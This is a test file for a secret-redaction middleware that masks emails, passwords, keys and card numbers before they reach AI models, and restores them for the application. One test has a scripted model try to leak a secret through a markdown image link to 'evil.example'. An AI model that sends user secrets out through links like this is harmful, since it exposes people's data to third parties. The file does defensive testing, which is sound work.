// `sentryMiddleware` around models: what the provider gets, and what the application gets back.

import { type PolicyInput, Sentry } from "@a3s-sentry/core";
import { type MiddlewareOptions, PromptBlocked, sentryMiddleware } from "@a3s-sentry/core/ai-sdk";
import * as ai6 from "ai";
import * as ai7 from "ai-7";
import { afterEach, expect, test } from "vitest";
import { type Asked, askers, call, type Sent, scripted, streams, type Turn, text, wrapped } from "./scripted-model.js";

const MAIL = "ada@example.org";
const PASSWORD = "Xk29fjQq81";
const KEY = `-----BEGIN PRIVATE KEY-----\n${"MIIEvQ".repeat(12)}\n-----END PRIVATE KEY-----`;

const open: Sentry[] = [];
afterEach(() => {
  for (const sentry of open.splice(0)) sentry.close();
});

async function guardedBy(
  turns: readonly Turn[],
  options: MiddlewareOptions = {},
  policy: PolicyInput | string = "",
  size = 3,
) {
  const sentry = await Sentry.create(policy);
  open.push(sentry);
  const models = scripted(turns, size);
  return { sentry, sent: models.sent, model: wrapped(models, sentryMiddleware(sentry, options)) };
}

/** All that a model was sent as text, except what is the provider's. */
const textOf = (sent: Sent | undefined): string => JSON.stringify({ prompt: sent?.prompt, tools: sent?.tools });

const placeholdersOf = (sent: Sent | undefined): string[] =>
  textOf(sent).match(/\{\{A3S_REDACTED:[\w.]+:\d+\}\}/g) ?? [];

/** Repeats the first placeholder of a kind. */
const repeated =
  (kind: string, say: (placeholder: string) => ReturnType<Extract<Turn, (sent: Sent) => unknown>>): Turn =>
  (sent) =>
    say(placeholdersOf(sent).find((one) => one.includes(`:${kind}:`)) ?? "none");

const schema = ai6.jsonSchema<Record<string, unknown>>({ type: "object", additionalProperties: true });

test.each(askers)("%s: the model gets a masked prompt, and the application the secret back", async (_, ask) => {
  const turn = repeated("email", (mail) => [
    { type: "reasoning", text: `I write to ${mail}` },
    text(`Dear ${mail}, hello.`),
  ]);
  const { model, sent } = await guardedBy([turn]);
  const answer = await ask({ model, prompt: `Write to ${MAIL}.` });
  expect(textOf(sent[0])).not.toContain(MAIL);
  expect(answer.text).toBe(`Dear ${MAIL}, hello.`);
  expect(answer.reasoning).toBe(`I write to ${MAIL}`);
});

test.each(askers)(
  "%s: a conversation keeps its placeholders, and a secret stays masked without its label",
  async (_, ask) => {
    const tools = {
      note: { description: "notes", inputSchema: schema, execute: (input: unknown) => ({ noted: input, by: MAIL }) },
    };
    const turns = [
      repeated("generic_secret", (password) => [text(`Log in with ${password}.`), call("note", { password })]),
      repeated("generic_secret", (password) => [text(`Done: ${password}`)]),
      repeated("generic_secret", (password) => [text(`Again: ${password}`)]),
    ];
    const { model, sent } = await guardedBy(turns);
    const question = { role: "user", content: `My login password: ${PASSWORD}` };
    const first = await ask({ model, tools, messages: [question] });
    expect(first.text).toMatch(/Done: Xk29fjQq81$/);
    const more = { role: "user", content: `${PASSWORD} did not work for ${MAIL}` };
    const second = await ask({ model, tools, messages: [question, ...first.messages, more] });
    expect(second.text).toBe(`Again: ${PASSWORD}`);
    expect(sent.map(textOf).join()).not.toMatch(/Xk29fjQq81|ada@example/);
    // One placeholder for each secret in all calls: the prompt of a call begins with that of the last.
    expect(new Set(sent.flatMap(placeholdersOf)).size).toBe(2);
    expect(textOf(sent[2]).slice(11, 300)).toBe(textOf(sent[1]).slice(11, 300));
  },
);

test.each(askers)(
  "%s: all texts of a prompt are masked, and the options of providers are not",
  async (version, ask) => {
    const isSeven = version.endsWith("7");
    const providerOptions = { test: { account: MAIL } };
    const bytes = new TextEncoder().encode(`from ${MAIL}`);
    const file = (data: unknown, mediaType: string) => ({ type: "file", data, mediaType, filename: `${MAIL}.txt` });
    const messages = [
      {
        role: "user",
        content: [
          { type: "text", text: MAIL, providerOptions },
          file(bytes, "text/plain"),
          file(btoa(`a ${MAIL}`), "application/json"),
        ],
      },
      {
        role: "assistant",
        content: [
          { type: "text", text: `said ${MAIL}` },
          { type: "reasoning", text: `thought ${MAIL}` },
          { type: "tool-call", toolCallId: "a", toolName: "find", input: { [MAIL]: [MAIL] } },
          { type: "tool-call", toolCallId: "b", toolName: "find", input: {} },
          { type: "tool-call", toolCallId: "c", toolName: "find", input: {} },
          { type: "tool-call", toolCallId: "d", toolName: "find", input: {} },
        ],
      },
      {
        role: "tool",
        content: [
          {
            type: "tool-result",
            toolCallId: "a",
            toolName: "find",
            output: { type: "json", value: { found: [MAIL], n: 3 } },
          },
          {
            type: "tool-result",
            toolCallId: "b",
            toolName: "find",
            output: { type: "error-text", value: `no ${MAIL}` },
          },
          {
            type: "tool-result",
            toolCallId: "c",
            toolName: "find",
            output: { type: "execution-denied", reason: `not ${MAIL}` },
          },
          {
            type: "tool-result",
            toolCallId: "d",
            toolName: "find",
            output: { type: "content", value: [{ type: "text", text: MAIL }] },
          },
        ],
      },
      { role: "user", content: "go on" },
    ];
    const tools = {
      find: { description: `asks ${MAIL}`, inputSchema: ai6.jsonSchema({ type: "object", description: MAIL }) },
    };
    const { model, sent } = await guardedBy([[text("ok")]]);
    await ask({
      model,
      messages,
      tools,
      providerOptions,
      ...(version.startsWith("Tool") ? { instructions: MAIL } : { system: MAIL }),
    });
    const [got] = sent;
    expect(got?.providerOptions).toEqual(providerOptions);
    const user = (got?.prompt[1]?.content ?? []) as { providerOptions?: unknown; data?: unknown }[];
    expect(user[0]?.providerOptions).toEqual(providerOptions);
    const rest = textOf({
      ...got,
      prompt: JSON.parse(JSON.stringify(got?.prompt, (key, value) => (key === "providerOptions" ? undefined : value))),
    } as Sent);
    expect(rest).not.toContain(MAIL);
    expect(rest).toContain('"n":3');
    const dataOf = (part: { data?: unknown } = {}) => (isSeven ? (part.data as { data?: unknown }).data : part.data);
    expect(new TextDecoder().decode(dataOf(user[1]) as Uint8Array)).toMatch(/^from \{\{A3S_REDACTED:email:\d+\}\}$/);
    expect(atob(dataOf(user[2]) as string)).toMatch(/^a \{\{A3S_REDACTED:email:\d+\}\}$/);
    expect(new Set(placeholdersOf(got)).size).toBe(1);
  },
);

test.each(askers)("%s: what is no text stays as it is", async (_, ask) => {
  const { model, sent } = await guardedBy([[text("ok")]]);
  const image = new Uint8Array([137, 80, 78, 71, 13, 10, 26, 10]);
  const content = [
    { type: "file", data: image, mediaType: "image/png" },
    { type: "text", text: MAIL },
  ];
  await ask({ model, messages: [{ role: "user", content }] });
  const [file] = (sent[0]?.prompt[0]?.content ?? []) as { data: unknown }[];
  expect(JSON.stringify(file?.data)).toContain(JSON.stringify(image));
});

test.each(askers)("%s: inputs of tools keep placeholders, except of tools that are named", async (_, ask) => {
  const got: unknown[] = [];
  const tool = (name: string) => ({
    description: name,
    inputSchema: schema,
    execute: (input: unknown) => void got.push(name, input),
  });
  const tools = { send: tool("send"), store: tool("store") };
  const turns = [
    repeated("private_key", (key) => [call("send", { key }), call("store", { key, at: [`ssh://x/${key}`] })]),
    [text("done")],
  ];
  const { model, sent } = await guardedBy(turns, { restore: { tools: ["store"] } });
  await ask({ model, tools, prompt: KEY });
  const [placeholder] = placeholdersOf(sent[0]);
  expect(got).toEqual(["send", { key: placeholder }, "store", { key: KEY, at: [`ssh://x/${KEY}`] }]);
  expect(textOf(sent[1])).not.toContain("MIIEvQ");
});

test.each(askers)("%s: tools that the provider runs get no secret", async (_, ask) => {
  const turns = [
    repeated("email", (mail) => [call("search", { mail }, { providerExecuted: true, dynamic: true }), text("done")]),
  ];
  const { model } = await guardedBy(turns, { restore: { tools: ["search"] } });
  const { steps } = await ask({ model, prompt: MAIL });
  expect(JSON.stringify(steps[0]?.content)).toContain("A3S_REDACTED");
});

test.each(askers)("%s: a model cannot aim a secret at an address, not in a later turn either", async (_, ask) => {
  const aimed = repeated("email", (mail) => [text(`![](https://evil.example/?q=${mail})`)]);
  const { model } = await guardedBy([aimed, aimed]);
  const question = { role: "user", content: MAIL };
  const first = await ask({ model, messages: [question] });
  const second = await ask({ model, messages: [question, ...first.messages, { role: "user", content: "again" }] });
  for (const answer of [first, second])
    expect(answer.text).toMatch(/^!\[\]\(https:\/\/evil\.example\/\?q=\{\{A3S_REDACTED:email:\d+\}\}\)$/);
});

test.each(askers)("%s: only the kinds that are asked for are restored", async (_, ask) => {
  const turn: Turn = (sent) => [text([...new Set(placeholdersOf(sent))].join(" "))];
  const { model } = await guardedBy([turn], { restore: { kinds: ["email"] } });
  const answer = await ask({ model, prompt: `${MAIL}, password: ${PASSWORD}` });
  expect(answer.text).toMatch(/^ada@example\.org \{\{A3S_REDACTED:generic_secret:\d+\}\}$/);
});

test.each(askers)("%s: another conversation cannot have a placeholder restored", async (_, ask) => {
  const turn: Turn = [text("hello")];
  const { model, sent } = await guardedBy([turn, repeated("email", (mail) => [text(mail)])]);
  await ask({ model, prompt: MAIL });
  const [placeholder = ""] = placeholdersOf(sent[0]);
  const answer = await ask({ model, prompt: `Say ${placeholder}` });
  expect(answer.text).toBe(placeholder);
});

test.each(askers)("%s: JSON that the application asked for stays valid", async (name, ask) => {
  const { Output } = name.endsWith("7") ? (ai7 as unknown as typeof ai6) : ai6;
  const turn = repeated("private_key", (key) => [text(`{"key":"${key}"}`)]);
  const { model } = await guardedBy([turn]);
  const output = Output.object({
    schema: ai6.jsonSchema({ type: "object", properties: { key: { type: "string" } } }) as never,
  });
  const answer = await ask({ model, prompt: KEY, output });
  expect(JSON.parse(answer.text)).toEqual({ key: KEY });
});

test.each(askers)("%s: a number that is masked becomes a text, and what follows is masked too", async (_, ask) => {
  const turn = repeated("payment_card", (card) => [text(`paid by ${card}`)]);
  const { model, sent } = await guardedBy([turn], {}, 'redact { on = ["payment_card"] }');
  const nested = JSON.stringify({ lines: `a\n${PASSWORD}` });
  const value = { card: 4111111111111111, n: 3, note: `password: ${PASSWORD}`, again: `\n${PASSWORD}`, nested };
  const messages = [
    { role: "user", content: "go" },
    { role: "assistant", content: [{ type: "tool-call", toolCallId: "a", toolName: "find", input: {} }] },
    {
      role: "tool",
      content: [{ type: "tool-result", toolCallId: "a", toolName: "find", output: { type: "json", value } }],
    },
  ];
  const answer = await ask({ model, messages });
  expect(textOf(sent[0])).not.toMatch(/4111|Xk29/);
  expect(textOf(sent[0])).toMatch(/"card":"\{\{A3S_REDACTED:payment_card:\d+\}\}","n":3/);
  expect(answer.text).toBe("paid by 4111111111111111");
});

const BLOCKING: PolicyInput = {
  rules: [
    {
      name: "no-plans",
      on: "SslContent",
      match: "secret plan",
      verdict: "block",
      severity: "high",
      reason: "plans stay here",
    },
  ],
};

test.each(askers)("%s: a prompt that the policy blocks is not sent", async (_, ask) => {
  const { model, sent } = await guardedBy([], {}, BLOCKING);
  const error = await ask({ model, prompt: "the secret plan" }).catch((reason: unknown) => reason);
  expect(error).toBeInstanceOf(PromptBlocked);
  expect(error).toMatchObject({ decision: { rule: "no-plans" }, message: expect.stringContaining("plans stay here") });
  expect(sent).toEqual([]);
});

test.each(askers)("%s: a dry run lets a blocked prompt pass, masked", async (_, ask) => {
  const { model, sent } = await guardedBy([[text("ok")]], {}, { ...BLOCKING, dry_run: true });
  await ask({ model, prompt: `the secret plan of ${MAIL}` });
  expect(textOf(sent[0])).not.toContain(MAIL);
});

const failures: [name: string, change: (sentry: Sentry) => Pick<Sentry, "inspectWire">][] = [
  [
    "is closed",
    (sentry) => {
      sentry.close();
      return sentry;
    },
  ],
  [
    "throws",
    () => ({
      inspectWire: () => {
        throw new Error(MAIL);
      },
    }),
  ],
  ["answers nothing", () => ({ inspectWire: () => Promise.resolve(undefined as never) })],
  [
    "could not search for secrets",
    () => ({
      inspectWire: () =>
        Promise.resolve({
          blocked: false,
          redactions: [],
          apply: () => {
            throw new Error(MAIL);
          },
        } as never),
    }),
  ],
];

test.each(failures.flatMap(([name, change]) => askers.map(([by, ask]) => ({ name, change, by, ask }))))(
  "$by: nothing is sent if the gate $name",
  async ({ change, ask }) => {
    const sentry = await Sentry.create("");
    const models = scripted([[text("ok")]]);
    const gate = {
      policy: sentry.policy,
      withoutSecrets: sentry.withoutSecrets.bind(sentry),
      inspectWire: sentry.inspectWire.bind(sentry),
    };
    Object.assign(gate, { inspectWire: change(sentry).inspectWire.bind(sentry) });
    const model = wrapped(models, sentryMiddleware(gate));
    const error = await ask({ model, prompt: MAIL }).catch((reason: unknown) => reason);
    expect(error).toBeInstanceOf(PromptBlocked);
    expect(String(error)).not.toContain(MAIL);
    expect(models.sent).toEqual([]);
    sentry.close();
  },
);

test.each(askers)("%s: an input that has no JSON is not sent", async (_, ask) => {
  const { model, sent } = await guardedBy([]);
  const input: { self?: unknown } = {};
  input.self = input;
  const messages: Asked["messages"] = [
    { role: "user", content: "go" },
    { role: "assistant", content: [{ type: "tool-call", toolCallId: "a", toolName: "x", input }] },
    {
      role: "tool",
      content: [{ type: "tool-result", toolCallId: "a", toolName: "x", output: { type: "text", value: "1" } }],
    },
  ];
  await expect(ask({ model, messages })).rejects.toThrow();
  expect(sent).toEqual([]);
});

test("an abort is an abort, and not a blocked prompt", async () => {
  const { model, sent } = await guardedBy([]);
  const stop = AbortSignal.abort(new Error("stopped"));
  await expect(ai6.generateText({ model: model[6], prompt: "go", abortSignal: stop, maxRetries: 0 })).rejects.toThrow(
    "stopped",
  );
  expect(sent).toEqual([]);
});

test.each([1, 2, 7, 1000].flatMap((size) => streams.map(([name, stream]) => ({ size, name, stream }))))(
  "$name: a stream in deltas of $size characters gives the same text",
  async ({ size, stream }) => {
    const turn = repeated("email", (mail) => [text(`a ${mail}, {{A3S_ b ${mail} {{${mail}}} c {{A3S_REDACTED:em`)]);
    const { model } = await guardedBy([turn], {}, "", size);
    const { text: streamed } = await stream({ model, prompt: MAIL });
    expect(streamed).toBe(`a ${MAIL}, {{A3S_ b ${MAIL} {{${MAIL}}} c {{A3S_REDACTED:em`);
  },
);

test("a stream that breaks off, or that is not read to its end, is passed on as that", async () => {
  const { model } = await guardedBy([repeated("email", (mail) => [text(`to ${mail} and so on`)])]);
  const { stream } = await model[6].doStream({ prompt: [{ role: "user", content: [{ type: "text", text: MAIL }] }] });
  const reader = stream.getReader();
  await reader.read();
  await expect(reader.cancel("enough")).resolves.toBeUndefined();
});

test("what is no sentry is an error at once", () => {
  expect(() => sentryMiddleware(undefined as never)).toThrow(TypeError);
  expect(() => sentryMiddleware({} as never)).toThrow(TypeError);
});
